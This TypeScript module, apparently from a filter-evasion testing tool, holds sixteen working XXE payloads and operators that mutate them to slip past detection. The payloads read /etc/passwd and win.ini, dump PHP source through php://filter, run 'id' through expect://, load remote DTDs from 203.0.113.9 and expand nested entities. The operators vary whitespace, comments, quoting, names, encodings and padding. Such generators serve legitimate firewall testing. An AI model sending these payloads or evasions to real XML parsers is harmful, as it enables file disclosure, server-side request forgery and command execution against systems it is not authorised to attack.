import { commonEncodings, entityDecimal, entityHex, entityNamed } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '<!DOCTYPE k [<!ENTITY z SYSTEM "file:///etc/passwd">]><k>&z;</k>',
  '<?xml version="1.0"?><!DOCTYPE k [<!ENTITY z SYSTEM "http://203.0.113.9/z">]><k>&z;</k>',
  '<!DOCTYPE k [<!ENTITY % p SYSTEM "http://203.0.113.9/p.dtd"> %p;]><k/>',
  '<!DOCTYPE k SYSTEM "http://203.0.113.9/k.dtd"><k/>',
  '<!DOCTYPE k PUBLIC "-//K//Z" "http://203.0.113.9/k.dtd"><k/>',
  '<!DOCTYPE k [<!ENTITY z "zz"><!ENTITY y "&z;&z;&z;">]><k>&y;</k>',
  '<!DOCTYPE k [<!ENTITY z SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><k>&z;</k>',
  '<k xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></k>',
  '<!DOCTYPE k [<!ENTITY z SYSTEM "expect://id">]><k>&z;</k>',
  '<!DOCTYPE k [<!ELEMENT k ANY><!ENTITY z SYSTEM "file:///c:/windows/win.ini">]><k>&z;</k>',
  '<!DOCTYPE k [<!ENTITY z PUBLIC "zed" "file:///etc/hostname">]><k>&z;</k>',
  '<!DOCTYPE k [<!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/group\'>"> %a;]><k>&b;</k>',
  '<!DOCTYPE svg [<!ENTITY z SYSTEM "file:///etc/passwd">]><svg><text>&z;</text></svg>',
  '<!DOCTYPE k [<!ENTITY z SYSTEM "jar:http://203.0.113.9/k.zip!/z">]><k>&z;</k>',
  '<!DOCTYPE k [<!ENTITY z SYSTEM "netdoc:///etc/passwd">]><k>&z;</k>',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://203.0.113.9/k"/>',
];

/** Blanks where XML allows them. */
const otherBlank: Operator = syntax('other-blank', 'CAPEC-221 alternative white space', (payload, random) =>
  payload.replaceAll(/(?<=<!(?:DOCTYPE|ENTITY)[^>[]*) /g, () => random.pick(['\n', '\t', '  ', '\r\n', ' \n\t'])),
);

/** Blanks around the internal subset. */
const spacedSubset: Operator = syntax('spaced-subset', 'CAPEC-221 alternative white space', (payload, random) =>
  payload
    .replaceAll(/(?<=DOCTYPE \w+ )\[/g, () => `[${random.pick([' ', '\n', '\t\n'])}`)
    .replaceAll(']>', () => `${random.pick([' ', '\n', ''])}] >`),
);

/** A comment in front or within the subset. */
const comment: Operator = syntax('comment', 'CAPEC-221 comments', (payload, random) =>
  payload.startsWith('<?xml')
    ? null
    : payload.includes('[<')
      ? payload.replace('[<', () => `[<!-- ${random.word(5)} --><`)
      : `<!-- ${random.word(5)} -->${payload}`,
);

/** The other quotes. */
const otherQuotes: Operator = syntax('other-quotes', 'CAPEC-221 quoting', (payload) =>
  payload.includes("'") ? null : payload.replaceAll('"', "'"),
);

/** Other names. */
const otherNames: Operator = syntax('other-names', 'CAPEC-221 names', (payload, random) => {
  const name = random.word(1 + random.below(8));
  const entity = random.word(2 + random.below(8));
  return payload
    .replaceAll(/(?<=DOCTYPE )k\b|(?<=<\/?)k\b|(?<=ELEMENT )k\b/g, name)
    .replaceAll(/(?<=ENTITY (?:% )?)z\b|(?<=&)z(?=;)/g, entity);
});

/** A public identifier where a system one is enough. */
const publicId: Operator = syntax('public-id', 'CAPEC-221 public identifiers', (payload, random) =>
  payload.replace(/(?<=ENTITY (?:% )?\w+ )SYSTEM /, () => `PUBLIC "${random.word(4)}" `),
);

/** A declaration of XML in front, of any encoding that text may claim. */
const declaration: Operator = syntax('declaration', 'CAPEC-221 XML declarations', (payload, random) =>
  payload.startsWith('<?xml')
    ? null
    : `<?xml version="1.0" encoding="${random.pick(['UTF-8', 'utf-8', 'ISO-8859-1', 'US-ASCII'])}"${random.pick(['', ' standalone="no"'])}?>${random.pick(['', '\n'])}${payload}`,
);

/** White space and a mark of byte order in front. */
const leadingBlank: Operator = syntax('leading-blank', 'CAPEC-221 padding', (payload, random) =>
  payload.startsWith('<?xml') ? `\ufeff${payload}` : `${random.pick([' ', '\n', '\t', '\ufeff'])}${payload}`,
);

/** Declarations in front of the one that acts. */
const junkDeclarations: Operator = syntax('junk-declarations', 'CAPEC-221 padding', (payload, random) =>
  payload.replace(
    '[<',
    () => `[<!ELEMENT ${random.word(4)} (#PCDATA)><!ATTLIST ${random.word(4)} ${random.word(3)} CDATA #IMPLIED><`,
  ),
);

/** Another prefix for the namespace of inclusions. */
const otherPrefix: Operator = syntax('other-prefix', 'CAPEC-221 namespaces', (payload, random) => {
  const prefix = random.word(3);
  return payload.includes('xi:include') ? payload.replaceAll(/\bxi(?=[:=])/g, prefix) : null;
});

/** The document with more behind it. */
const junkSuffix: Operator = syntax(
  'junk-suffix',
  'CAPEC-221 padding',
  (payload, random) => `${payload}<!-- ${random.word(6)} -->\n`,
);

/** XML external entities, external document types and inclusions. */
export const xxe: EvasionClass = {
  id: 'xxe',
  payloads,
  operators: [
    otherBlank,
    spacedSubset,
    comment,
    otherQuotes,
    otherNames,
    publicId,
    declaration,
    leadingBlank,
    junkDeclarations,
    otherPrefix,
    junkSuffix,
    ...commonEncodings,
    entityHex,
    entityDecimal,
    entityNamed,
  ],
};
